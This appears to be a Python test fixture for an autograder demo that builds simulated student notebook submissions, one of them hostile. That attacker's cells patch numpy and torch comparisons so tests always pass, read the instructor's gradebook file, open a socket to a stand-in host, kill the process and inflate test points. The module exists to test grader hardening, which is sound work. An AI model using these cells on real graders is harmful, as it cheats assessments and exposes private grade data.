"""Seven students, one an attacker, and how their answers come from the instructor's solutions.

Nobody's answer is written down here: a mistake is an edit of the solution found in `source/`.
"""

from __future__ import annotations

import copy
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from autograder.notebooks.cells import grade_id, grading_data, is_solution

BEGIN, END = "### BEGIN SOLUTION", "### END SOLUTION"
WRITTEN = "This is my answer. A person will read it."


class StaleEdit(Exception):  # noqa: N818  (what it says is what is wrong)
    """An edit that no longer fits the solution in `source/`; its message says which."""


@dataclass(frozen=True)
class Edit:
    """A change inside one exercise's solution: `pattern` (a regular expression) is replaced."""

    exercise: str
    pattern: str
    replacement: str | Callable[[re.Match[str]], str]

    def apply(self, solution: str) -> str:
        """The edited solution. Raises StaleEdit where the pattern does not occur in it."""
        edited, count = re.subn(self.pattern, self.replacement, solution)
        if not count or edited == solution:
            raise StaleEdit(
                f"The mistake that the demo makes in {self.exercise} does not fit its solution in "
                f"source/ any more: {self.pattern!r} changes nothing there. The demo's students "
                "are defined in autograder/classroom/students.py."
            )
        return edited


@dataclass(frozen=True)
class Student:
    """Someone who hands in. `edits` is None for one who hands in the release as it is.

    `attacks` makes of a submission something that tries for marks it has not earned.
    """

    name: str
    story: str
    edits: tuple[Edit, ...] | None = ()
    attacks: Callable[[NotebookNode], None] | None = None


def exchange(exercise: str, one: str, other: str) -> Edit:
    """Two names change places throughout a solution."""
    places = {one: other, other: one}
    return Edit(exercise, rf"\b({one}|{other})\b", lambda found: places[found.group()])


def warn_in(exercise: str) -> Edit:
    """The solution stays right, but warns and writes to stderr each time it is called."""
    lines = (
        "import sys, warnings",
        "warnings.warn('this answer is right, and warns')",
        "print('this answer is right, and writes to stderr', file=sys.stderr)",
    )
    return Edit(exercise, r"\A([ \t]*)", lambda m: "".join(f"{m[1]}{s}\n" for s in lines) + m[1])


#: Cells of the attacker's: each works against a grader that runs tests in the student's process.
ATTACKS = {
    "patch": """
import numpy as np, torch
np.allclose = torch.allclose = torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
""",
    "steal": """
from pathlib import Path
print(Path(GRADEBOOK).read_bytes()[:100])
""",
    "send": """
import socket
socket.create_connection(("203.0.113.7", 443), timeout=2)
""",
    "quit": "import os; os._exit(0)",
}


def attack(notebook: NotebookNode) -> None:
    """Makes a submission hostile: all answers but the first undone, and five ways to cheat."""
    for cell in notebook.cells:
        data = cell.metadata.get("nbgrader", {})
        if data.get("grade_id") == "test_input_gate":
            data["points"] = 1000
        elif data.get("grade_id") == "test_candidate":
            cell.source = "1000.0"
        elif is_solution(cell) and cell.cell_type == "code" and grade_id(cell) != "forget_gate":
            cell.source = f"def {grade_id(cell)}(*anything):\n    return 1.0"
    first = next(i for i, cell in enumerate(notebook.cells) if grade_id(cell) == "forget_gate")
    for name, code in ATTACKS.items():
        text = code.strip().replace("GRADEBOOK", repr("/home/instructor/course/gradebook.db"))
        cell = new_code_cell(text, id=f"attack-{name}")
        notebook.cells.insert(first + 1, cell)


STUDENTS = (
    Student("ada_perfect", "every answer right"),
    Student("ben_blank", "handed in untouched", None),
    Student(
        "cem_tanh",
        "tanh in the forget gate",
        (Edit("forget_gate", r"\btorch\.sigmoid\b", "torch.tanh"),),
    ),
    Student(
        "dora_swapped",
        "f and i exchanged in C",
        (exchange("cell_state", "f_t", "i_t"),),
    ),
    Student(
        "emil_unsquashed",
        "no tanh on C in H",
        (Edit("hidden_state", r"\btorch\.tanh\b", ""),),
    ),
    Student("fay_warns", "right, warns on stderr", (warn_in("forget_gate"),)),
    Student("gus_attacks", "one answer, five attacks", (), attack),
)


def solutions(source: NotebookNode) -> Mapping[str, str]:
    """The text between the solution marks of each solution cell in code, by grade id."""
    found = {}
    for cell in source.cells:
        if is_solution(cell) and cell.cell_type == "code":
            lines = cell.source.splitlines()
            marks = [i for i, line in enumerate(lines) if line.strip() in (BEGIN, END)]
            if len(marks) != 2:
                raise StaleEdit(f"The cell {grade_id(cell)} of source/ has not one solution in it.")
            found[grade_id(cell)] = "\n".join(lines[marks[0] + 1 : marks[1]])
    return found


def submission(student: Student, source: NotebookNode, release: NotebookNode) -> NotebookNode:
    """The notebook that `student` hands in: the release, with answers in place of the stubs.

    Raises StaleEdit where an edit does not fit the source.
    """
    handed_in = copy.deepcopy(release)
    if student.edits is None:
        return handed_in
    answers = dict(solutions(source))
    for edit in student.edits:
        if edit.exercise not in answers:
            raise StaleEdit(f"source/ has no solution cell called {edit.exercise}.")
        answers[edit.exercise] = edit.apply(answers[edit.exercise])
    stubs = {grade_id(cell): cell for cell in source.cells if is_solution(cell)}
    for cell in handed_in.cells:
        name = grade_id(cell)
        if name in answers:
            cell.source = _with_answer(stubs[name].source, answers[name])
        elif is_solution(cell) and grading_data(cell).get("grade") is True:
            cell.source = WRITTEN
    if student.attacks is not None:
        student.attacks(handed_in)
    return handed_in


def _with_answer(cell_source: str, answer: str) -> str:
    """The cell's text with `answer` in place of the solution and its marks."""
    before, _, rest = cell_source.partition(BEGIN)
    after = rest.partition(END)[2]
    return before.rstrip(" \t") + answer + after
